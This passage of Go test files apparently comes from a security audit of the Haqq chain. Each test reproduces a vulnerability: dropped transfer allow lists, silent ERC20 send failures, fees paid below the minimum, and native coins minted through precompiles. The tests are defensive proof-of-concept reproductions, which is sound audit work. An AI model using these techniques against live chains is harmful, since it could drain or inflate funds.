// Run with tools/run_finding.sh C04-ics20. The test states the property; it fails while the defect is present.

import (
	"testing"

	transfertypes "github.com/cosmos/ibc-go/v7/modules/apps/transfer/types"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/precompiles/authorization"
	cmn "github.com/haqq-network/haqq/precompiles/common"
	"github.com/haqq-network/haqq/precompiles/testutil/contracts"
)

func TestVerifFindingC04_Ics20ApproveDropsAllowList(t *testing.T) {
	ds := new(PrecompileTestSuite)
	ds.SetT(t)
	s = ds
	ds.suiteIBCTesting = true
	ds.SetupTest()

	allowed := ds.chainB.SenderAccount.GetAddress().String()
	_, ethRes, err := contracts.Call(ds.chainA.GetContext(), ds.app, contracts.CallArgs{
		ContractAddr: ds.precompile.Address(), ContractABI: ds.precompile.ABI, PrivKey: ds.privKey, GasPrice: gasPrice,
		MethodName: authorization.ApproveMethod, GasLimit: 3_000_000,
		Args: []interface{}{ds.differentAddr, []cmn.ICS20Allocation{{
			SourcePort:    ds.transferPath.EndpointA.ChannelConfig.PortID,
			SourceChannel: ds.transferPath.EndpointA.ChannelID,
			SpendLimit:    defaultCmnCoins,
			AllowList:     []string{allowed},
		}}},
	})
	require.NoError(t, err)
	require.False(t, ethRes.Failed(), ethRes.VmError)
	ds.chainA.NextBlock()

	auths, err := ds.app.AuthzKeeper.GetAuthorizations(ds.chainA.GetContext(), ds.differentAddr.Bytes(), ds.address.Bytes())
	require.NoError(t, err)
	require.Len(t, auths, 1)
	ta := auths[0].(*transfertypes.TransferAuthorization)
	require.Len(t, ta.Allocations, 1)
	t.Logf("approved allow list: [%s]; stored allow list: %v", allowed, ta.Allocations[0].AllowList)
	require.Equal(t, []string{allowed}, ta.Allocations[0].AllowList, "the receiver allow list the signer approved is not part of the stored grant: the grantee can send to anybody")
}
