package keeper_test

// L2 reproduction of finding C10-F2 on the full in-process app: the bank MsgSend wrapper moves ERC20 tokens for a coin whose
// token pair is registered. When the token's transfer() returns false (the ERC20 way of signalling failure without
// reverting) the wrapper ran `errorsmod.Wrap(err, "failed to transfer erc20 tokens")` with err == nil - which is nil: the
// send was reported as successful, the receiver got nothing, and the balance and Approval checks that follow were skipped.
// The token here is the repository's own ERC20 (so that registration works) whose code is then replaced by a stub that
// answers balanceOf with 1000 and everything else with false - what an upgradeable or re-deployed token can turn into.
// Run with tools/run_finding.sh C10-send. The test states the property; it FAILS while the finding is open.

import (
	"math/big"
	"testing"
	"time"

	"github.com/cosmos/cosmos-sdk/baseapp"
	sdk "github.com/cosmos/cosmos-sdk/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/contracts"
	"github.com/haqq-network/haqq/testutil"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	haqqbankkeeper "github.com/haqq-network/haqq/x/bank/keeper"
	"github.com/haqq-network/haqq/x/evm/statedb"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

func TestVerifFindingC10_BankSendReportsSuccessWhenTransferReturnsFalse(t *testing.T) {
	s = new(KeeperTestSuite)
	s.SetT(t)
	s.DoSetupTest(t)
	commit := func() {
		var err error
		s.ctx, err = testutil.CommitAndCreateNewCtx(s.ctx, s.app, time.Hour, nil)
		require.NoError(t, err)
		queryHelper := baseapp.NewQueryServerTestHelper(s.ctx, s.app.InterfaceRegistry())
		evmtypes.RegisterQueryServer(queryHelper, s.app.EvmKeeper)
		s.queryClientEvm = evmtypes.NewQueryClient(queryHelper)
	}
	commit()
	contract, err := testutil.DeployContract(s.ctx, s.app, s.priv, s.queryClientEvm, contracts.ERC20MinterBurnerDecimalsContract, "Token", "TKN", uint8(18))
	require.NoError(t, err)
	commit()
	pair, err := s.app.Erc20Keeper.RegisterERC20(s.ctx, contract)
	require.NoError(t, err)
	require.True(t, pair.IsNativeERC20())
	commit()

	// the token changes its behaviour: balanceOf(x) = 1000 for everybody, every other call returns false
	stub := common.FromHex("6000356" + "0e01c80637" + "0a0823114601a57600060005260206000f35b6103e860005260206000f3")
	hash := crypto.Keccak256Hash(stub)
	s.app.EvmKeeper.SetCode(s.ctx, hash.Bytes(), stub)
	acct := s.app.EvmKeeper.GetAccount(s.ctx, contract)
	require.NotNil(t, acct)
	require.NoError(t, s.app.EvmKeeper.SetAccount(s.ctx, contract, statedb.Account{Nonce: acct.Nonce, Balance: acct.Balance, CodeHash: hash.Bytes()}))
	commit()

	erc20ABI := contracts.ERC20MinterBurnerDecimalsContract.ABI
	from := sdk.AccAddress(s.address.Bytes())
	toHex := utiltx.GenerateAddress()
	to := sdk.AccAddress(toHex.Bytes())
	require.Equal(t, "1000", s.app.Erc20Keeper.BalanceOf(s.ctx, erc20ABI, contract, s.address).String())

	msg := banktypes.NewMsgSend(from, to, sdk.NewCoins(sdk.NewInt64Coin(pair.Denom, 10)))
	require.NoError(t, msg.ValidateBasic())
	msgServer := haqqbankkeeper.NewMsgServerImpl(haqqbankkeeper.NewWrappedBaseKeeper(s.app.BankKeeper, s.app.Erc20Keeper, s.app.AccountKeeper))
	_, sendErr := msgServer.Send(sdk.WrapSDKContext(s.ctx), msg)
	coinsReceived := s.app.BankKeeper.GetBalance(s.ctx, to, pair.Denom).Amount
	t.Logf("MsgSend of 10 %s through a token whose transfer() returns false: err=%v; coins received by the recipient: %s (its token balance cannot have moved: transfer() did nothing)", pair.Denom, sendErr, coinsReceived)
	require.Error(t, sendErr, "a send whose token transfer returned false must fail")
	_ = big.NewInt
}
