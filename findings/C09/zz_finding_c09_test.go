package keeper_test

// L2 triage / reproduction for property C09, clause "a clawback ... leaves a valid account": a MsgClawback before the first
// vesting event takes the whole grant and stores a ClawbackVestingAccount with StartTime = EndTime and empty schedules.
// The account's own Validate() - which auth's genesis validation runs on every exported account - rejects that shape
// ("vesting start-time must be before end-time"), so a genesis exported after such a clawback does not validate.
// Run with tools/run_finding.sh C09. The test states the property; it FAILS while the finding is open.

import (
	"testing"
	"time"

	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"

	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/x/vesting/types"
)

func TestVerifFindingC09_FullClawbackLeavesAccountThatFailsGenesisValidation(t *testing.T) {
	suite := new(KeeperTestSuite)
	suite.SetT(t)
	s = suite
	suite.DoSetupTest(t)
	ctx := sdk.WrapSDKContext(suite.ctx)
	now := suite.ctx.BlockTime()
	total := sdk.NewCoins(sdk.NewInt64Coin("aISLM", 1000))
	lockup := sdkvesting.Periods{{Length: 5000, Amount: total}}
	vesting := sdkvesting.Periods{{Length: 2000, Amount: sdk.NewCoins(sdk.NewInt64Coin("aISLM", 500))}, {Length: 2000, Amount: sdk.NewCoins(sdk.NewInt64Coin("aISLM", 500))}}
	funder, grantee := addr3, addr4
	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, funder, total))
	_, err := suite.app.VestingKeeper.CreateClawbackVestingAccount(ctx, types.NewMsgCreateClawbackVestingAccount(funder, grantee, now, lockup, vesting, false))
	suite.Require().NoError(err)

	// 1000 s later, before the first vesting event: the funder claws everything back
	suite.ctx = suite.ctx.WithBlockTime(now.Add(1000 * time.Second))
	_, err = suite.app.VestingKeeper.Clawback(sdk.WrapSDKContext(suite.ctx), types.NewMsgClawback(funder, grantee, funder))
	suite.Require().NoError(err)

	acc, ok := suite.app.AccountKeeper.GetAccount(suite.ctx, grantee).(*types.ClawbackVestingAccount)
	suite.Require().True(ok, "still a clawback vesting account")
	verr := acc.Validate()
	gen := suite.app.AccountKeeper.ExportGenesis(suite.ctx)
	gerr := authtypes.ValidateGenesis(*gen)
	t.Logf("after the clawback: start=%d end=%d original=%s; account.Validate() = %v; auth ValidateGenesis(export) = %v",
		acc.StartTime.Unix(), acc.EndTime, acc.OriginalVesting, verr, gerr)
	suite.Require().NoError(verr, "the account a clawback leaves behind is valid by its own Validate()")
	suite.Require().NoError(gerr, "the exported auth genesis validates")
}
