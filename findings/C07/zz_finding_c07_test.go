package evm_test

// L2 reproduction of finding C07-F1 on the full in-process app: on the Cosmos route MinGasPriceDecorator checks the fee the
// transaction DECLARES against gasLimit x MinGasPrice, but DeductFeeDecorator charges what the dynamic fee checker returns:
// for a transaction carrying ExtensionOptionDynamicFeeTx that is min(base fee + max priority price, fee cap) x gas. Whenever
// the base fee is below the minimum gas price (fee market switched off on a London chain: base fee 0; or a minimum gas
// price raised above the current base fee) a transaction that declares the floor fee and sets max_priority_price = 0 is
// accepted and pays (almost) nothing.
// Run with tools/run_finding.sh C07. The test states the property; it FAILS while the finding is open.

import (
	"math/big"
	"testing"

	sdkmath "cosmossdk.io/math"
	"github.com/cosmos/cosmos-sdk/client/tx"
	codectypes "github.com/cosmos/cosmos-sdk/codec/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	authsigning "github.com/cosmos/cosmos-sdk/x/auth/signing"
	authtx "github.com/cosmos/cosmos-sdk/x/auth/tx"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/ethereum/go-ethereum/common"

	"github.com/haqq-network/haqq/app/ante"
	ethante "github.com/haqq-network/haqq/app/ante/evm"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	haqqtypes "github.com/haqq-network/haqq/types"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

func TestVerifFindingC07_DynamicFeeOptionPaysBelowTheMinimumGasPrice(t *testing.T) {
	suite := new(AnteTestSuite)
	suite.SetT(t)
	suite.enableLondonHF = true
	suite.enableFeemarket = false
	suite.SetupTest()
	// the fee market is switched off (no base fee), the network minimum gas price is 10
	fm := suite.app.FeeMarketKeeper.GetParams(suite.ctx)
	fm.NoBaseFee = true
	fm.MinGasPrice = sdk.NewDec(10)
	suite.Require().NoError(suite.app.FeeMarketKeeper.SetParams(suite.ctx, fm))
	suite.ctx = suite.ctx.WithIsCheckTx(false).WithMinGasPrices(nil)

	handler := ante.NewAnteHandler(ante.HandlerOptions{
		Cdc: suite.app.AppCodec(), AccountKeeper: suite.app.AccountKeeper, BankKeeper: suite.app.BankKeeper,
		ExtensionOptionChecker: haqqtypes.HasDynamicFeeExtensionOption, DistributionKeeper: suite.app.DistrKeeper,
		EvmKeeper: suite.app.EvmKeeper, FeegrantKeeper: suite.app.FeeGrantKeeper, IBCKeeper: suite.app.IBCKeeper,
		StakingKeeper: suite.app.StakingKeeper, FeeMarketKeeper: suite.app.FeeMarketKeeper,
		SignModeHandler: suite.clientCtx.TxConfig.SignModeHandler(), SigGasConsumer: ante.SigVerificationGasConsumer,
		TxFeeChecker: ethante.NewDynamicFeeChecker(suite.app.EvmKeeper),
	})

	_, privKey := utiltx.NewAddrKey()
	signer := sdk.AccAddress(privKey.PubKey().Address())
	suite.RegisterAccount(privKey.PubKey(), big.NewInt(1_000_000_000_000))

	const gas = uint64(200_000)
	floor := sdkmath.NewInt(10).MulRaw(int64(gas))
	txBuilder := suite.clientCtx.TxConfig.NewTxBuilder()
	txBuilder.SetGasLimit(gas)
	txBuilder.SetFeeAmount(sdk.NewCoins(sdk.NewCoin(evmtypes.DefaultEVMDenom, floor))) // declares exactly the floor
	recipient := utiltx.GenerateAddress()
	suite.Require().NoError(txBuilder.SetMsgs(banktypes.NewMsgSend(signer, recipient.Bytes(), sdk.NewCoins(sdk.NewCoin(evmtypes.DefaultEVMDenom, sdkmath.NewInt(1))))))
	opt, err := codectypes.NewAnyWithValue(&haqqtypes.ExtensionOptionDynamicFeeTx{MaxPriorityPrice: sdkmath.ZeroInt()})
	suite.Require().NoError(err)
	txBuilder.(authtx.ExtensionOptionsTxBuilder).SetExtensionOptions(opt)

	acc := suite.app.AccountKeeper.GetAccount(suite.ctx, signer)
	suite.Require().NoError(txBuilder.SetSignatures(signing.SignatureV2{PubKey: privKey.PubKey(), Data: &signing.SingleSignatureData{SignMode: signing.SignMode_SIGN_MODE_DIRECT}, Sequence: acc.GetSequence()}))
	signerData := authsigning.SignerData{ChainID: suite.ctx.ChainID(), AccountNumber: acc.GetAccountNumber(), Sequence: acc.GetSequence()}
	sig, err := tx.SignWithPrivKey(signing.SignMode_SIGN_MODE_DIRECT, signerData, txBuilder, privKey, suite.clientCtx.TxConfig, acc.GetSequence())
	suite.Require().NoError(err)
	suite.Require().NoError(txBuilder.SetSignatures(sig))

	branch, _ := suite.ctx.CacheContext()
	_, anteErr := handler(branch, txBuilder.GetTx(), false)
	paid := new(big.Int).Sub(big.NewInt(1_000_000_000_000), suite.app.EvmKeeper.GetBalance(branch, common.BytesToAddress(signer)))
	t.Logf("min gas price 10, gas limit %d => floor %s; ante error=%v; fee actually paid by the signer: %s", gas, floor, anteErr, paid)
	if anteErr == nil {
		suite.Require().True(paid.Cmp(floor.BigInt()) >= 0, "the transaction was accepted in block execution and paid %s, below gasLimit x minimum gas price = %s", paid, floor)
	}
}
