package keeper_test

// L2 reproduction of finding C13-F1 (coinomics: stale PrevBlockTS across disable/enable) on the full in-process app.
// Run from /verif with: tools/run_finding.sh C13   (overlays this file into /repo/x/coinomics/keeper).
// Before the "fix:" commit in /repo this test FAILS (the first block after re-activation mints for the whole pause).

import (
	"testing"
	"time"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/stretchr/testify/require"
)

func TestVerifFindingC13_ReactivationMintsNothing(t *testing.T) {
	s = new(KeeperTestSuite)
	s.DoSetupTest(t)
	k := s.app.CoinomicsKeeper
	ctx := s.ctx
	params := k.GetParams(ctx)
	params.EnableCoinomics = true
	k.SetParams(ctx, params)
	k.SetMaxSupply(ctx, sdk.NewCoin("aISLM", sdkmath.NewIntWithDecimal(100_000_000_000, 18)))

	supply := func(c sdk.Context) sdkmath.Int { return s.app.BankKeeper.GetSupply(c, "aISLM").Amount }

	t0 := ctx.BlockTime()
	k.EndBlocker(ctx) // first enabled block: records the timestamp
	ctx = ctx.WithBlockTime(t0.Add(5 * time.Second))
	before := supply(ctx)
	k.EndBlocker(ctx)
	normal := supply(ctx).Sub(before)
	require.True(t, normal.IsPositive(), "an ordinary 5s block mints something")

	// governance switches minting off for 30 days
	params = k.GetParams(ctx)
	params.EnableCoinomics = false
	k.SetParams(ctx, params)
	ctx = ctx.WithBlockTime(ctx.BlockTime().Add(5 * time.Second))
	k.EndBlocker(ctx)
	ctx = ctx.WithBlockTime(ctx.BlockTime().Add(30 * 24 * time.Hour))
	k.EndBlocker(ctx)

	// ... and on again
	params = k.GetParams(ctx)
	params.EnableCoinomics = true
	k.SetParams(ctx, params)
	ctx = ctx.WithBlockTime(ctx.BlockTime().Add(5 * time.Second))
	before = supply(ctx)
	k.EndBlocker(ctx)
	first := supply(ctx).Sub(before)
	require.True(t, first.IsZero(), "first block after activation must mint nothing, minted %s (an ordinary block mints %s)", first, normal)

	// the following block mints for its own 5 seconds only
	ctx = ctx.WithBlockTime(ctx.BlockTime().Add(5 * time.Second))
	before = supply(ctx)
	k.EndBlocker(ctx)
	second := supply(ctx).Sub(before)
	require.True(t, second.Equal(normal), "second block after activation mints the ordinary amount: %s vs %s", second, normal)
}
