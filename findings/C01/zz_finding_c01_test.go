package app_test

import (
		"encoding/json"
	"math/big"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	sdkmath "cosmossdk.io/math"
	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cometbft/cometbft/libs/log"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	tmtypes "github.com/cometbft/cometbft/types"
	"github.com/cosmos/cosmos-sdk/baseapp"
	"github.com/cosmos/cosmos-sdk/client/flags"
	"github.com/cosmos/cosmos-sdk/crypto/keys/secp256k1"
	simtestutil "github.com/cosmos/cosmos-sdk/testutil/sims"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/cosmos/ibc-go/v7/testing/mock"
	"github.com/ethereum/go-ethereum/common"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	"github.com/haqq-network/haqq/encoding"
	srvflags "github.com/haqq-network/haqq/server/flags"
	testutiltx "github.com/haqq-network/haqq/testutil/tx"
	haqqtypes "github.com/haqq-network/haqq/types"
	"github.com/haqq-network/haqq/utils"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// L2 reproduction of finding C01-F1 on two full in-process replicas built from the same genesis and fed the same block:
// the only difference is the node-local app.toml option evm.tracer. With evm.tracer = "access_list" the keeper builds an
// access-list tracer inside block execution and dereferences msg.To(), which is nil for a contract creation: that replica
// panics in DeliverTx (the transaction fails there) while the other replica executes it - different results, different
// application hash. Run with tools/run_finding.sh C01. The test states the property; it fails while the defect is present.
func TestVerifFindingC01_ReplicasAgreeRegardlessOfLocalTracer(t *testing.T) {
	const (
		chainID     = utils.TestEdge2ChainID + "-3"
		blockMaxGas = int64(2_500_000)
	)

	// ---- shared genesis -------------------------------------------------------
	privVal := mock.NewPV()
	pubKey, err := privVal.GetPubKey()
	require.NoError(t, err)
	validator := tmtypes.NewValidator(pubKey, 1)
	valSet := tmtypes.NewValidatorSet([]*tmtypes.Validator{validator})

	delegatorKey := secp256k1.GenPrivKey()
	delegator := authtypes.NewBaseAccount(delegatorKey.PubKey().Address().Bytes(), delegatorKey.PubKey(), 0, 0)

	senderKey, err := ethsecp256k1.GenerateKey()
	require.NoError(t, err)
	senderAddr := sdk.AccAddress(senderKey.PubKey().Address().Bytes())
	sender := &haqqtypes.EthAccount{
		BaseAccount: authtypes.NewBaseAccount(senderAddr, nil, 1, 0),
		CodeHash:    common.BytesToHash(evmtypes.EmptyCodeHash).Hex(),
	}

	funds := sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdk.TokensFromConsensusPower(1_000_000, sdk.DefaultPowerReduction)))
	balances := []banktypes.Balance{
		{Address: delegator.GetAddress().String(), Coins: funds},
		{Address: senderAddr.String(), Coins: funds},
	}

	newReplica := func(opts simtestutil.AppOptionsMap) *app.Haqq {
		opts[flags.FlagHome] = app.DefaultNodeHome
		return app.NewHaqq(
			log.NewNopLogger(), dbm.NewMemDB(), nil, true, map[int64]bool{},
			app.DefaultNodeHome, 5,
			encoding.MakeConfig(app.ModuleBasics),
			opts,
			baseapp.SetChainID(chainID),
		)
	}

	// replica A runs with the default configuration, replica B's operator has
	// configured a cap for the gas wanted that is reported to the mempool.
	replicaA := newReplica(simtestutil.AppOptionsMap{})
	replicaB := newReplica(simtestutil.AppOptionsMap{srvflags.EVMTracer: "access_list"})

	genesisState := app.GenesisStateWithValSet(
		replicaA, app.NewDefaultGenesisState(), valSet,
		[]authtypes.GenesisAccount{delegator, sender}, balances...,
	)
	stateBytes, err := json.MarshalIndent(genesisState, "", " ")
	require.NoError(t, err)

	consensusParams := *app.DefaultConsensusParams
	consensusParams.Block = &tmproto.BlockParams{MaxBytes: 200000, MaxGas: blockMaxGas}

	for _, replica := range []*app.Haqq{replicaA, replicaB} {
		replica.InitChain(abci.RequestInitChain{
			ChainId:         chainID,
			Validators:      []abci.ValidatorUpdate{},
			ConsensusParams: &consensusParams,
			AppStateBytes:   stateBytes,
		})
	}

	// ---- one block, identical for both replicas -------------------------------
	header := tmproto.Header{
		ChainID:         chainID,
		Height:          1,
		Time:            time.Date(2024, 5, 1, 12, 0, 0, 0, time.UTC),
		ProposerAddress: validator.Address.Bytes(),
	}

	evmChainID, err := haqqtypes.ParseChainID(chainID)
	require.NoError(t, err)
	recipient := common.HexToAddress("0x00000000000000000000000000000000000c0ffe")
	gasPrice := big.NewInt(10_000_000_000) // 10x the genesis base fee

	makeTx := func(nonce, gasLimit uint64, input []byte, to *common.Address, amount int64) []byte {
		msg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
			ChainID:  evmChainID,
			Nonce:    nonce,
			To:       to,
			Amount:   big.NewInt(amount),
			GasLimit: gasLimit,
			GasPrice: gasPrice,
			Input:    input,
		})
		msg.From = common.BytesToAddress(senderAddr.Bytes()).Hex()
		txCfg := encoding.MakeConfig(app.ModuleBasics).TxConfig
		// PrepareEthTx only needs the replica for the EIP-155 chain id, which is
		// identical on all replicas.
		tx, err := testutiltx.PrepareEthTx(txCfg, replicaA, senderKey, msg)
		require.NoError(t, err)
		bz, err := txCfg.TxEncoder()(tx)
		require.NoError(t, err)
		return bz
	}

	// tx #1: an ordinary transfer; tx #2: a contract creation (init code STOP)
	blockTxs := [][]byte{
		makeTx(0, 100_000, nil, &recipient, 1_000),
		makeTx(1, 200_000, []byte{0x00}, nil, 0),
	}

	type blockResult struct {
		txs     []abci.ResponseDeliverTx
		appHash []byte
	}

	runBlock := func(replica *app.Haqq) blockResult {
		var res blockResult
		replica.BeginBlock(abci.RequestBeginBlock{Header: header})
		for _, bz := range blockTxs {
			res.txs = append(res.txs, replica.DeliverTx(abci.RequestDeliverTx{Tx: bz}))
		}
		replica.EndBlock(abci.RequestEndBlock{Height: header.Height})
		res.appHash = replica.Commit().Data
		return res
	}

	resA := runBlock(replicaA)
	resB := runBlock(replicaB)

	// sanity: the first transaction is a valid one on the reference replica
	require.Equal(t, uint32(0), resA.txs[0].Code, resA.txs[0].Log)

	for i := range blockTxs {
		a, b := resA.txs[i], resB.txs[i]
		// only the fields that CometBFT hashes into LastResultsHash
		assert.Equalf(t, a.Code, b.Code, "tx %d: result code differs between replicas (A: %q, B: %q)", i, a.Log, b.Log)
		assert.Equalf(t, a.Data, b.Data, "tx %d: result data differs between replicas", i)
		assert.Equalf(t, a.GasWanted, b.GasWanted, "tx %d: gas wanted differs between replicas", i)
		assert.Equalf(t, a.GasUsed, b.GasUsed, "tx %d: gas used differs between replicas", i)
	}

	assert.Equal(t, resA.appHash, resB.appHash, "replicas committed different application hashes")

	// and the committed state really is the same
	for _, replica := range []*app.Haqq{replicaA, replicaB} {
		ctx := replica.NewContext(true, header)
		assert.Equal(t,
			sdkmath.NewInt(1_000).String(),
			replica.BankKeeper.GetBalance(ctx, recipient.Bytes(), utils.BaseDenom).Amount.String(),
		)
	}
}
