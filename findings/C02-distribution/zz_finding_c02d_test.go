package distribution_test

// L2 reproduction of finding C02-F2 on the full in-process app: withdrawDelegatorRewards credits the rewards to the
// *caller* in the EVM's view whenever the caller is the delegator, although the distribution module pays them to the
// delegator's withdraw address. With a withdraw address different from the delegator the rewards are paid once by the bank
// (to the withdraw address) and once more by the StateDB write-back (to the delegator): native coins are minted.
// Run with tools/run_finding.sh C02-distribution. The test states the property; it FAILS while the finding is open.

import (
	"math/big"
	"testing"

	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/precompiles/distribution"
	"github.com/haqq-network/haqq/precompiles/testutil/contracts"
	testutiltx "github.com/haqq-network/haqq/testutil/tx"
)

func TestVerifFindingC02_WithdrawRewardsToOtherWithdrawAddress(t *testing.T) {
	ds := new(PrecompileTestSuite)
	ds.SetT(t)
	s = ds
	ds.DoSetupTest()
	ds.NextBlock()

	ds.prepareStakingRewards(stakingRewards{ds.address.Bytes(), ds.validators[0], math.NewInt(1e18)})
	other := sdk.AccAddress(testutiltx.GenerateAddress().Bytes())
	ds.app.DistrKeeper.SetDelegatorWithdrawAddr(ds.ctx, ds.address.Bytes(), other)
	ds.NextBlock()

	supplyBefore := ds.app.BankKeeper.GetSupply(ds.ctx, ds.bondDenom).Amount
	delBefore := ds.app.BankKeeper.GetBalance(ds.ctx, ds.address.Bytes(), ds.bondDenom).Amount
	otherBefore := ds.app.BankKeeper.GetBalance(ds.ctx, other, ds.bondDenom).Amount
	gasPrice := big.NewInt(1e9)

	res, ethRes, err := contracts.Call(ds.ctx, ds.app, contracts.CallArgs{
		ContractAddr: ds.precompile.Address(), ContractABI: ds.precompile.ABI, PrivKey: ds.privKey, GasPrice: gasPrice,
		MethodName: distribution.WithdrawDelegatorRewardsMethod, Args: []interface{}{ds.address, ds.validators[0].OperatorAddress}, GasLimit: 3_000_000,
	})
	require.NoError(t, err)
	require.False(t, ethRes.Failed(), ethRes.VmError)

	supplyAfter := ds.app.BankKeeper.GetSupply(ds.ctx, ds.bondDenom).Amount
	delAfter := ds.app.BankKeeper.GetBalance(ds.ctx, ds.address.Bytes(), ds.bondDenom).Amount
	otherAfter := ds.app.BankKeeper.GetBalance(ds.ctx, other, ds.bondDenom).Amount
	fees := math.NewInt(gasPrice.Int64() * res.GasUsed)
	t.Logf("supply diff=%s; withdraw address received=%s; delegator balance change (fees added back)=%s",
		supplyAfter.Sub(supplyBefore), otherAfter.Sub(otherBefore), delAfter.Add(fees).Sub(delBefore))
	require.True(t, otherAfter.GT(otherBefore), "the withdraw address received the rewards")
	require.True(t, supplyAfter.Equal(supplyBefore), "total supply of the native coin changed by %s during an EVM transaction", supplyAfter.Sub(supplyBefore))
	require.True(t, delAfter.Add(fees).Equal(delBefore), "the delegator (not the withdraw address) was credited %s besides paying the fee", delAfter.Add(fees).Sub(delBefore))
}

// forwarder: CALLDATACOPY(0,0,cds); ok := CALL(gas, 0x801, 0, 0, cds, 0, 0); SSTORE(0, ok+1); STOP   (payable)
func c02dForwarderInit() []byte {
	runtime := []byte{
		0x36, 0x60, 0x00, 0x60, 0x00, 0x37,
		0x60, 0x00, 0x60, 0x00, 0x36, 0x60, 0x00, 0x60, 0x00, 0x61, 0x08, 0x01, 0x5a, 0xf1,
		0x60, 0x01, 0x01, 0x60, 0x00, 0x55,
		0x00,
	}
	init := []byte{0x60, byte(len(runtime)), 0x80, 0x60, 0x0b, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}
	return append(init, runtime...)
}

// C02-F3: the signer attaches value to a call into a contract that withdraws the signer's staking rewards through the
// precompile (allowed: delegator = tx signer). The rewards are credited by the bank, but the signer's account is dirty in
// the EVM journal and its cached balance is written back at Commit: the rewards are burned.
func TestVerifFindingC02_RewardsToDirtySignerAreOverwritten(t *testing.T) {
	ds := new(PrecompileTestSuite)
	ds.SetT(t)
	s = ds
	ds.DoSetupTest()
	ds.NextBlock()
	contractAddr, err := ds.DeployContract(evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: c02dForwarderInit()})
	require.NoError(t, err)
	ds.NextBlock()
	ds.prepareStakingRewards(stakingRewards{ds.address.Bytes(), ds.validators[0], math.NewInt(1e18)})

	supplyBefore := ds.app.BankKeeper.GetSupply(ds.ctx, ds.bondDenom).Amount
	delBefore := ds.app.BankKeeper.GetBalance(ds.ctx, ds.address.Bytes(), ds.bondDenom).Amount
	gasPrice := big.NewInt(1e9)
	value := big.NewInt(5)
	res, ethRes, err := contracts.Call(ds.ctx, ds.app, contracts.CallArgs{
		ContractAddr: contractAddr, ContractABI: ds.precompile.ABI, PrivKey: ds.privKey, GasPrice: gasPrice, Amount: value,
		MethodName: distribution.WithdrawDelegatorRewardsMethod, Args: []interface{}{ds.address, ds.validators[0].OperatorAddress}, GasLimit: 3_000_000,
	})
	require.NoError(t, err)
	require.False(t, ethRes.Failed(), ethRes.VmError)
	require.Equal(t, int64(2), ds.app.EvmKeeper.GetState(ds.ctx, contractAddr, common.Hash{}).Big().Int64(), "the precompile call inside the contract must have succeeded")

	supplyAfter := ds.app.BankKeeper.GetSupply(ds.ctx, ds.bondDenom).Amount
	delAfter := ds.app.BankKeeper.GetBalance(ds.ctx, ds.address.Bytes(), ds.bondDenom).Amount
	fees := math.NewInt(gasPrice.Int64() * res.GasUsed)
	t.Logf("supply diff=%s; delegator balance change (fees and value added back)=%s", supplyAfter.Sub(supplyBefore), delAfter.Add(fees).AddRaw(5).Sub(delBefore))
	require.True(t, supplyAfter.Equal(supplyBefore), "total supply of the native coin changed by %s during an EVM transaction", supplyAfter.Sub(supplyBefore))
}
