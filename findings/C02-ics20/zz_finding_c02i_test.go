package ics20_test

// L2 reproduction of finding C02-F4 on the full in-process app (two IBC test chains, real EVM, real ICS-20 precompile):
// the signer attaches value to a call into a contract that, under the signer's transfer grant, calls
// ics20.transfer(sender = signer). The escrow debit made by the transfer module is mirrored into the StateDB only when the
// caller is the sender, so the final Commit writes the signer's cached balance back: the escrowed amount is minted again.
// Run with tools/run_finding.sh C02-ics20. The test states the property; it FAILS while the finding is open.

import (
	"math/big"
	"testing"

	sdk "github.com/cosmos/cosmos-sdk/types"
	transfertypes "github.com/cosmos/ibc-go/v7/modules/apps/transfer/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/precompiles/ics20"
	"github.com/haqq-network/haqq/precompiles/testutil/contracts"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// forwarder: CALLDATACOPY(0,0,cds); ok := CALL(gas, 0x802, 0, 0, cds, 0, 0); SSTORE(0, ok+1); STOP   (payable)
func c02iForwarderInit() []byte {
	runtime := []byte{
		0x36, 0x60, 0x00, 0x60, 0x00, 0x37,
		0x60, 0x00, 0x60, 0x00, 0x36, 0x60, 0x00, 0x60, 0x00, 0x61, 0x08, 0x02, 0x5a, 0xf1,
		0x60, 0x01, 0x01, 0x60, 0x00, 0x55,
		0x00,
	}
